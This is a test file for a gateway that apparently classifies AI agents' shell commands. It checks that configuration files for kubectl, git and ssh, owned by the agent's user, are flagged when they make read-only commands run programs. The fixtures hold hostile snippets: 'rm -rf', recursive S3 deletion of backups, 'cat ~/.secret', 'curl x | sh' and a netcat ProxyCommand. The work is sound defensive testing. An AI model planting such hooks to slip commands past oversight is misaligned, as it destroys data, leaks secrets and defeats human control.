@@ -1,0 +1,174 @@
+import assert from 'node:assert/strict';
+import { chmodSync, chownSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import type { ActionContext, Agent, Human } from '../core/index.ts';
+import { createClassifier } from '../classify/index.ts';
+import { createGateway, type Gateway } from '../gateway/index.ts';
+import { engineWith } from '../../test/helpers/policy.ts';
+import { counterIds, fakeClock } from '../../test/helpers/control-plane.ts';
+import { createFsPathResolver } from './path-resolver.ts';
+
+const kiro: Agent = { kind: 'agent', id: 'kiro', role: 'deployer', operator: 'dana', homeEnvironment: 'prod-cn-1' };
+const local: Agent = { ...kiro, id: 'local' };
+const dana: Human = { kind: 'human', id: 'dana', groups: ['admins'] };
+const AGENT = { uid: 4343, groups: [4343] };
+
+/**
+ * D8 round 12 on the real filesystem, through the gateway with the real classifier and policy pack: the tools' own
+ * configuration files of the agent's Unix user (a home and a repository it owns) make a read-only call run its program.
+ */
+describe('D8 round 12: tools\' own configuration files that run programs', { skip: process.getuid?.() === 0 ? false : 'needs root to chown files to the agent\'s user' }, () => {
+  let root: string;
+  let home: string;
+  let repo: string;
+  let sys: string;
+  let gateway: Gateway;
+
+  /** Writes `text` at `path` (and its folders) owned by `uid`. */
+  const put = (path: string, text: string, uid = AGENT.uid) => {
+    mkdirSync(join(path, '..'), { recursive: true });
+    writeFileSync(path, text, { mode: 0o644 });
+    chownSync(path, uid, uid);
+    for (let d = join(path, '..'); d.startsWith(root) && d !== root; d = join(d, '..')) if (d.startsWith(home) || d.startsWith(repo)) chownSync(d, AGENT.uid, AGENT.uid);
+  };
+  const findings = async (command: string, context: Partial<ActionContext> = {}, agentId = 'kiro') => {
+    const r = await gateway.evaluate({ agentId, action: { kind: 'shell', command }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin`, ...context } });
+    // (the classifier's own finding for the renamed program goes with each; the gateway's says why)
+    return r.facts.findings.filter((f) => f.code === 'program_changeable' && f.program?.source === 'config' && / runs what the agent's Unix user configures: /.test(f.message)).map((f) => f.message);
+  };
+
+  before(async () => {
+    root = realpathSync(mkdtempSync(join(tmpdir(), 'portcullis-d8c-')));
+    home = join(root, 'home');
+    repo = join(home, 'app');
+    sys = join(root, 'sys');
+    mkdirSync(repo, { recursive: true });
+    mkdirSync(join(repo, '.git'));
+    for (const d of [home, repo, join(repo, '.git')]) chownSync(d, AGENT.uid, AGENT.uid);
+    // root's programs, first on the session's PATH
+    mkdirSync(sys, { mode: 0o755 });
+    for (const p of ['aws', 'kubectl', 'gke-gcloud-auth-plugin']) writeFileSync(join(sys, p), '#!/bin/sh\n', { mode: 0o755 });
+    const resolver = createFsPathResolver(() => [], { agentUser: (id) => (id === 'kiro' ? Promise.resolve(AGENT) : undefined) });
+    const engine = engineWith();
+    gateway = createGateway({
+      classifier: await createClassifier(),
+      inventory: { environments: [], unknownTier: 'production', controlPlanePaths: [] },
+      directory: { agent: async (id) => (id === 'kiro' ? kiro : id === 'local' ? local : null), human: async (id) => (id === 'dana' ? dana : null) },
+      paths: resolver,
+      engine: () => engine,
+      audit: { append: () => Promise.reject(new Error('not used by evaluate')) },
+      approvals: { hold: () => Promise.reject(new Error('not used by evaluate')) },
+      clock: fakeClock(),
+      ids: counterIds(),
+    });
+  });
+  after(() => rmSync(root, { recursive: true, force: true }));
+
+  it('D8 round 12 `~/.kube/config` with an exec plugin `sh -c …` makes `kubectl get pods` the agent\'s own program; an EKS plugin with root\'s `aws` stays a read', async () => {
+    const kube = join(home, '.kube', 'config');
+    put(kube, 'apiVersion: v1\nusers:\n- name: dev\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: sh\n      args: [-c, "rm -rf ~/important; echo {}"]\n');
+    assert.deepEqual(await findings('kubectl get pods'), [
+      `\`kubectl\` runs what the agent's Unix user configures: its configuration file \`~/.kube/config\` (\`${kube}\`), which the agent's Unix user can change, sets \`users[dev].user.exec\`, which runs \`sh -c rm -rf ~/important; echo {}\`, which is no known credential plugin's command`,
+    ]);
+    const verbs = (await gateway.evaluate({ agentId: 'kiro', action: { kind: 'shell', command: 'kubectl get pods' }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin` } })).facts.verbs;
+    assert.ok(verbs.includes('exec'), JSON.stringify(verbs));
+    // root's aws given other arguments is no credential plugin
+    put(kube, 'users:\n- name: dev\n  user:\n    exec: { command: aws, args: [s3, rm, --recursive, "s3://prod-backups"] }\n');
+    assert.match((await findings('helm list'))[0] ?? '', /sets `users\[dev\]\.user\.exec`, which runs `aws s3 rm --recursive s3:\/\/prod-backups`, which is no known credential plugin's command$/);
+    // Benign neighbours: the EKS shape with root's aws (and no ~/.aws files), GKE's plugin, no kubeconfig, no Unix user (a local install).
+    put(kube, 'users:\n- name: eks\n  user:\n    exec:\n      command: aws\n      args: [--region, eu-west-1, eks, get-token, --cluster-name, prod]\n      env: [{ name: AWS_PROFILE, value: prod }]\n- name: gke\n  user:\n    exec: { command: gke-gcloud-auth-plugin }\n');
+    assert.deepEqual(await findings('kubectl get pods'), []);
+    // ... but root's aws reading the agent's `~/.aws/config` whose credential_process is a shell snippet is not
+    put(join(home, '.aws', 'config'), '[profile prod]\ncredential_process = sh -c "cat ~/.secret"\n');
+    assert.match((await findings('kubectl get pods'))[0] ?? '', /which runs `aws`, and `aws` runs what the agent's Unix user configures: its configuration file `~\/\.aws\/config` \(`[^`]+`\), which the agent's Unix user can change, sets `\[profile prod\] credential_process`, which runs `sh -c "cat ~\/\.secret"`, a shell snippet Portcullis does not judge$/);
+    assert.deepEqual(await findings('kubectl get pods', {}, 'local'), []);
+    rmSync(join(home, '.aws'), { recursive: true });
+    // the known shape run by the agent's own program (a folder of the agent's first on PATH) is the agent's own
+    // (root's plugin taken away: the name is found on the agent's folder, last on PATH)
+    rmSync(join(sys, 'gke-gcloud-auth-plugin'));
+    put(join(home, 'bin', 'gke-gcloud-auth-plugin'), '#!/bin/sh\n');
+    chmodSync(join(home, 'bin', 'gke-gcloud-auth-plugin'), 0o755);
+    assert.deepEqual(await findings('kubectl get pods', { searchPath: `${sys}:${join(home, 'bin')}` }), [
+      `\`kubectl\` runs what the agent's Unix user configures: its configuration file \`~/.kube/config\` (\`${kube}\`), which the agent's Unix user can change, sets \`users[gke].user.exec\`, which runs \`gke-gcloud-auth-plugin\`, which the agent's Unix user can change (this user owns \`${join(home, 'bin', 'gke-gcloud-auth-plugin')}\`)`,
+    ]);
+    rmSync(join(home, 'bin'), { recursive: true });
+    writeFileSync(join(sys, 'gke-gcloud-auth-plugin'), '#!/bin/sh\n', { mode: 0o755 });
+    rmSync(kube);
+    assert.deepEqual(await findings('kubectl get pods'), []);
+  });
+
+  it('D8 round 12 a kubeconfig the agent cannot change is the operator\'s; one that cannot be parsed, or a session without a home, fails closed', async () => {
+    const rootKube = join(root, 'etc-kube', 'admin.conf');
+    mkdirSync(join(root, 'etc-kube'), { mode: 0o755 });
+    writeFileSync(rootKube, 'users:\n- name: ops\n  user:\n    exec: { command: sh, args: [-c, "vault read …"] }\n', { mode: 0o644 });
+    assert.deepEqual(await findings('kubectl get pods', { toolEnv: { KUBECONFIG: rootKube } }), []);
+    const kube = join(home, '.kube', 'config');
+    put(kube, 'users: [\n');
+    assert.match((await findings('kubectl get pods'))[0] ?? '', /^`kubectl` runs what the agent's Unix user configures: its configuration file `~\/\.kube\/config` \(`[^`]+`\) cannot be read as a kubeconfig: it is not valid YAML/);
+    // KUBECONFIG routes kubectl away from the broken default
+    assert.deepEqual(await findings('kubectl get pods', { toolEnv: { KUBECONFIG: rootKube } }), []);
+    // a link from the agent's folder to a file only the decision service may read: refused, its text never read
+    const secret = join(root, 'etc-kube', 'service.key');
+    writeFileSync(secret, 'users:\n- name: s3cr3t-token-value\n  user: { exec: { command: sh } }\n', { mode: 0o600 });
+    rmSync(kube);
+    symlinkSync(secret, kube);
+    assert.deepEqual(await findings('kubectl get pods'), [`\`kubectl\` runs what the agent's Unix user configures: its configuration file \`~/.kube/config\` (\`${kube}\`) cannot be read by Portcullis: the agent's Unix user may not read it`]);
+    rmSync(kube);
+    assert.deepEqual(await findings('kubectl get pods', { home: undefined }), ['`kubectl` runs what the agent\'s Unix user configures: its configuration file `~/.kube/config` cannot be found: the session\'s home folder is not known']);
+    // a relative KUBECONFIG entry: where kubectl looks is not known
+    assert.deepEqual(await findings('kubectl get pods', { toolEnv: { KUBECONFIG: `${rootKube}:conf/kube` } }), ['`kubectl` runs what the agent\'s Unix user configures: its configuration file `KUBECONFIG=conf/kube` cannot be found: its path is relative to a folder that is not known']);
+    // Without a session PATH (an SDK or HTTP caller), tools are trusted by their names as before.
+    assert.deepEqual(await findings('kubectl get pods', { searchPath: undefined, home: undefined }), []);
+  });
+
+  it('D8 round 12 the project\'s `.git/config` `core.fsmonitor` makes `git status` the agent\'s own; a pager and an ssh key pass', async () => {
+    const config = join(repo, '.git', 'config');
+    const hook = join(home, 'fsmon.sh');
+    put(hook, '#!/bin/sh\nrm -rf ~/important\n');
+    put(config, `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ${hook}\n`);
+    mkdirSync(join(repo, 'src'), { recursive: true });
+    assert.deepEqual(await findings('git status', { cwd: join(repo, 'src') }), [
+      `\`git\` runs what the agent's Unix user configures: its configuration file the repository's \`${config}\`, which the agent's Unix user can change, sets \`core.fsmonitor\`, which runs \`${hook}\`, which the agent's Unix user can change (this user owns \`${hook}\`)`,
+    ]);
+    put(config, '[core]\n\tfsmonitor = "sh -c \'curl x | sh\'"\n');
+    assert.deepEqual(await findings('git status'), [
+      `\`git\` runs what the agent's Unix user configures: its configuration file the repository's \`${config}\`, which the agent's Unix user can change, sets \`core.fsmonitor\`, which runs \`sh -c 'curl x | sh'\`, a shell snippet Portcullis does not judge`,
+    ]);
+    // a worktree's own settings (`extensions.worktreeConfig`) are read too
+    put(config, '[extensions]\n\tworktreeConfig = true\n');
+    put(join(repo, '.git', 'config.worktree'), '[core]\n\tpager = "less; rm -rf ~/x"\n');
+    assert.deepEqual(await findings('git log'), [
+      `\`git\` runs what the agent's Unix user configures: its configuration file the repository's \`${join(repo, '.git', 'config.worktree')}\`, which the agent's Unix user can change, sets \`core.pager\`, which runs \`less; rm -rf ~/x\`, a shell snippet Portcullis does not judge`,
+    ]);
+    rmSync(join(repo, '.git', 'config.worktree'));
+    // an include of the global file, followed from ~/.gitconfig
+    rmSync(config);
+    put(join(home, '.gitconfig'), '[user]\n\tname = Kiro\n[include]\n\tpath = .gitconfig.d/aliases\n');
+    put(join(home, '.gitconfig.d', 'aliases'), '[alias]\n\tst = !git status && rm -rf ~/x\n');
+    assert.match((await findings('git log'))[0] ?? '', /^`git` runs what the agent's Unix user configures: its configuration file included by `[^`]+\/\.gitconfig` \(`[^`]+\/\.gitconfig\.d\/aliases`\), which the agent's Unix user can change, sets `alias\.st`, which runs `git status && rm -rf ~\/x`, a shell snippet Portcullis does not judge$/);
+    rmSync(join(home, '.gitconfig.d'), { recursive: true });
+    // Benign neighbours: root's less as the pager, root's ssh with a key, a credential store, LFS's filter with root's git-lfs absent
+    put(join(home, '.gitconfig'), '[core]\n\tpager = less -FRX\n\tsshCommand = ssh -i ~/.ssh/deploy\n[credential]\n\thelper = store\n[pager]\n\tlog = false\n');
+    put(config, '[core]\n\tbare = false\n\tfsmonitor = false\n');
+    assert.deepEqual(await findings('git status'), []);
+    rmSync(join(home, '.gitconfig'));
+  });
+
+  it('D8 round 12 `~/.ssh/config` `ProxyCommand` with a shell snippet makes `ssh` (and git over ssh) the agent\'s own; a jump host passes', async () => {
+    const ssh = join(home, '.ssh', 'config');
+    put(ssh, 'Host *\n  ServerAliveInterval 30\nHost prod-*\n  ProxyCommand sh -c "nc %h %p; rm -rf ~/x"\n');
+    const expected = `its configuration file \`~/.ssh/config\` (\`${ssh}\`), which the agent's Unix user can change, sets \`Host prod-* ProxyCommand\`, which runs \`sh -c "nc %h %p; rm -rf ~/x"\`, a shell snippet Portcullis does not judge`;
+    assert.deepEqual(await findings('ssh prod-db uptime'), [`\`ssh\` runs what the agent's Unix user configures: ${expected}`]);
+    assert.deepEqual(await findings('git fetch origin'), [`\`git\` runs what the agent's Unix user configures: ${expected}`]);
+    // an Include pattern is listed and followed
+    put(ssh, 'Include config.d/*\n');
+    put(join(home, '.ssh', 'config.d', 'work'), 'Match host * exec "curl -s x | sh"\n');
+    assert.match((await findings('scp a prod:/tmp'))[0] ?? '', /included by `[^`]+\/\.ssh\/config` \(`[^`]+\/config\.d\/work`\), which the agent's Unix user can change, sets `Match exec`, which runs `curl -s x \| sh`, a shell snippet Portcullis does not judge$/);
+    rmSync(join(home, '.ssh', 'config.d'), { recursive: true });
+    put(ssh, 'Host bastion-*\n  ProxyCommand ssh -W %h:%p jump.example.com\n  IdentityFile ~/.ssh/id_ed25519\n');
+    assert.deepEqual(await findings('ssh bastion-1 uptime'), []);
+    rmSync(ssh);
+  });
+});
